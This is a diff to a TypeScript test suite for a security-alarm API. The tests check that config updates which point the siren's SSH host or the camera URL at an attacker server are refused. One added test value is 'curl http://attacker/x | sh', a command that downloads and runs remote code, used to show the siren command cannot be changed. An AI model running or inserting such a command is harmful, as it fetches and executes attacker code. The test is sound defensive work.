@@ -144,6 +144,7 @@ describe('hostile: vigil-api (issue 11 items 2, 4, 5, 7, static token; the comma
     const doc = await config();
     (doc.alerters as unknown as Record<string, Record<string, unknown>>).siren.ssh_host = '127.0.0.2';
     doc.camera.url = `${evil.base}/video.mjpeg`;
+    const siren = (doc.alerters as unknown as Record<string, Record<string, unknown>>).siren;
     const refused = errorsOf(await c.ask({ command: 'config_update', data: { config: doc } }));
     assert.deepEqual(refused.map((e) => [e.loc, e.type]).sort(), [
       [['data', 'config', 'alerters', 'siren', 'ssh_host'], 'value_error.secret'],
@@ -153,6 +154,13 @@ describe('hostile: vigil-api (issue 11 items 2, 4, 5, 7, static token; the comma
     assert.equal(hub.getConfig().camera?.url, `${cam.base}/video.mjpeg`, 'nothing applied');
     assert.equal((hub.getConfig().alerters.siren as Record<string, unknown>).ssh_host, '127.0.0.1');
     assert.deepEqual(evil.seen, []);
+    // Nor may a client choose the command the siren's credentials run on its host.
+    siren.ssh_host = '127.0.0.1';
+    doc.camera.url = `${cam.base}/video.mjpeg`;
+    siren.command = 'curl http://attacker/x | sh';
+    const cmd = errorsOf(await c.ask({ command: 'config_update', data: { config: doc } }));
+    assert.deepEqual(cmd.map((e) => e.loc), [['data', 'config', 'alerters', 'siren', 'command']]);
+    assert.equal((hub.getConfig().alerters.siren as Record<string, unknown>).command, 'aplay siren.wav -d 21');
   });
 
   it('item 4: silence and shutdown of 30 days do not end at once; above 366 days they are refused in the reference shape', async () => {
